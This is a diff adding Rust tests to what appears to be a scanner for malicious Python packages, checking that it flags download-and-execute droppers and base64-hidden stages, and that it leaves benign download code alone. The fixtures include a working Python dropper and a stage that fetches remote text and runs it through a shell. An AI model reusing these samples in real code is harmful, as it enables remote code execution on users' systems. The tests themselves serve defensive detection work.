@@ -303,6 +303,39 @@ def update():
 }
 
 #[test]
+fn starting_the_very_file_a_download_was_written_to_is_a_dropper() {
+    let r = module(
+        r#"import os, random, requests, subprocess, tempfile
+def init(url):
+    response = requests.get(url)
+    path = os.path.join(tempfile.gettempdir(), str(random.random()), os.path.basename(url))
+    with open(path, "wb") as out:
+        out.write(response.content)
+    subprocess.run([path])
+"#,
+    );
+    assert_eq!(hits(&r, "payload/download-exec", MOD), [(7, High)]);
+}
+
+#[test]
+fn a_download_handed_to_a_tool_as_data_is_not_a_dropper() {
+    let r = module(
+        r#"import os, requests, subprocess
+def fetch_and_unpack(url, target):
+    archive = os.path.join(target, "data.tar.gz")
+    with open(archive, "wb") as out:
+        out.write(requests.get(url).content)
+    subprocess.run(["tar", "-xzf", archive, "-C", target], check=True)
+def run_tool(url, tool):
+    with open(tool + ".log", "wb") as log:
+        log.write(requests.get(url).content)
+    subprocess.run([tool, "--check"])
+"#,
+    );
+    none(&r, "payload/download-exec");
+}
+
+#[test]
 fn downloading_data_and_running_unrelated_code_is_not_download_exec() {
     let r = module(
         r#"import os, subprocess, urllib.request
@@ -769,6 +802,28 @@ with open(os.path.expanduser("~/.acme_hook.py"), "w") as f:
     );
     assert_eq!(hits(&r, "payload/shell-download", MOD), [(5, Critical)]);
     assert!(r.findings.iter().any(|f| f.rule == "payload/shell-download" && f.message.contains("in Python code kept in a string")));
+}
+
+#[test]
+fn python_code_hidden_in_a_base64_string_is_decoded_and_analysed() {
+    let stage2 = "import requests, subprocess\nsubprocess.Popen(requests.get('https://203.0.113.9/p').text, shell=True)\n".repeat(3);
+    let r = module(&format!(
+        "import base64, os\nSTAGE = '{}'\nopen(os.path.join(os.getcwd(), 'stage.py'), 'w').write(base64.b64decode(STAGE).decode())\n",
+        b64(stage2.as_bytes())
+    ));
+    let hidden: Vec<_> = r.findings.iter().filter(|f| f.message.contains("hidden in an encoded string")).collect();
+    assert!(!hidden.is_empty(), "{:#?}", r.findings);
+    assert!(hidden.iter().all(|f| f.line == Some(2) && f.file.as_deref() == Some(MOD)), "{hidden:#?}");
+    assert!(hidden.iter().any(|f| f.severity >= High), "{hidden:#?}");
+}
+
+#[test]
+fn an_encoded_blob_of_data_is_not_read_as_code() {
+    let r = module(&format!("DATA = '{}'\n", b64(&noise(1500))));
+    assert!(r.findings.iter().all(|f| !f.message.contains("hidden in an encoded string")), "{:#?}", r.findings);
+    let text = b64("Lorem ipsum dolor sit amet, import nothing, define nothing. ".repeat(8).as_bytes());
+    let r = module(&format!("NOTICE = '{text}'\n"));
+    assert!(r.findings.iter().all(|f| !f.message.contains("hidden in an encoded string")), "{:#?}", r.findings);
 }
 
 // ---------------------------------------------------------------- hiding/*
